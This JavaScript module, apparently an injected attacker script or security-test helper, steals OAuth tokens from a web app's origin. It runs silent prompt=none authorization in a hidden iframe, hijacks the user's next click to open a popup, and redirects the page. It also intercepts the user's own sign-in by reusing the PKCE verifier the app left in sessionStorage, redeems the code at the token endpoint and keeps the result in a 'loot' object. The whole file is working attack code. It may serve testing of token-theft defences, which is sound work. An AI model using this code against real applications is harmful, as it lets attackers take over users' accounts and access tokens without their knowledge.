// Gets tokens of its own: by a sign-in that nobody is asked for, or with the code of one that somebody has just made.

const KEY = 'hostile'

/** What it got: an answer of the token endpoint. */
export const loot = { answer: undefined, outcome: 'nothing yet' }

const random = () =>
  btoa(String.fromCharCode(...crypto.getRandomValues(new Uint8Array(32))))
    .replaceAll('+', '-')
    .replaceAll('/', '_')
    .replaceAll('=', '')

const settingsOf = () => JSON.parse(document.querySelector('#settings').textContent)
const redirectUri = () => `${location.origin}/${location.pathname.split('/')[1]}/`

async function metadata() {
  const { issuer } = settingsOf()
  return (await fetch(`${issuer}/.well-known/openid-configuration`)).json()
}

async function begin() {
  const codeVerifier = random()
  const hash = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(codeVerifier))
  const challenge = btoa(String.fromCharCode(...new Uint8Array(hash)))
  const { clientId, scope } = settingsOf()
  const address = new URL((await metadata()).authorization_endpoint)
  address.search = new URLSearchParams({
    ...{ client_id: clientId, response_type: 'code', redirect_uri: redirectUri(), scope },
    ...{ state: 'hostile', nonce: random(), prompt: 'none', code_challenge_method: 'S256' },
    code_challenge: challenge.replaceAll('+', '-').replaceAll('/', '_').replaceAll('=', ''),
  })
  return { address: address.href, codeVerifier }
}

async function redeem(answer, codeVerifier) {
  const parameters = new URLSearchParams(answer)
  if (!parameters.has('code')) {
    loot.outcome = parameters.get('error') ?? 'no answer'
    return
  }
  const body = new URLSearchParams({
    ...{ grant_type: 'authorization_code', client_id: settingsOf().clientId },
    ...{ code: parameters.get('code'), code_verifier: codeVerifier, redirect_uri: redirectUri() },
  })
  const response = await fetch((await metadata()).token_endpoint, { method: 'POST', body })
  loot.answer = await response.json()
  loot.outcome = loot.answer.error ?? 'tokens'
}

// The address, or what the browser keeps of it once the page has put another one there.
function answerIn(other) {
  try {
    const { search, pathname, origin } = other.location
    if (origin !== location.origin || pathname === 'blank') return undefined
    const [loaded] = other.performance.getEntriesByType('navigation')
    return [search, new URL(loaded?.name ?? location.href).search].find((each) =>
      /[?&](?:code|error)=/.test(each),
    )
  } catch {
    return undefined
  }
}

async function answerOf(other) {
  for (let tries = 0; tries < 1500; tries += 1) {
    const answer = answerIn(other)
    if (answer !== undefined) return answer
    await new Promise((resolve) => setTimeout(resolve, 2))
  }
  return ''
}

/** In a frame that nobody sees. */
export async function byFrame() {
  const { address, codeVerifier } = await begin()
  const blocked = new Promise((resolve) => {
    document.addEventListener('securitypolicyviolation', () => resolve('blocked'))
  })
  const frame = document.createElement('iframe')
  frame.hidden = true
  frame.src = address
  document.body.append(frame)
  const answer = await Promise.race([blocked, answerOf(frame.contentWindow)])
  frame.remove()
  if (answer === 'blocked') loot.outcome = "the page's policy allows no frames"
  else await redeem(answer, codeVerifier)
}

/** In a window that opens with the person's next click. */
export async function byWindow() {
  const { address, codeVerifier } = await begin()
  document.addEventListener(
    'click',
    (event) => {
      event.preventDefault()
      event.stopImmediatePropagation()
      const opened = open(address)
      answerOf(opened).then((answer) => redeem(answer, codeVerifier))
    },
    { capture: true, once: true },
  )
}

/** By leaving the page: for a script that is in it again when it comes back. */
export async function byNavigation() {
  const { address, codeVerifier } = await begin()
  sessionStorage.setItem(KEY, codeVerifier)
  location.assign(address)
}

/** Takes the answer to its own question, before the page looks at it. */
export function finish() {
  const codeVerifier = sessionStorage.getItem(KEY)
  if (codeVerifier === null || !location.search.includes('state=hostile')) return
  sessionStorage.removeItem(KEY)
  redeem(location.search, codeVerifier)
}

/** Takes the answer to the person's own sign-in, with what the page has kept for it. */
export function intercept() {
  const key = Object.keys(sessionStorage).find((each) => each.endsWith(':sign-in'))
  if (key === undefined || !location.search.includes('code=')) return
  const kept = Object.entries(JSON.parse(sessionStorage.getItem(key)))
  sessionStorage.removeItem(key)
  redeem(location.search, kept.find(([name]) => /verifier/i.test(name))?.[1])
}
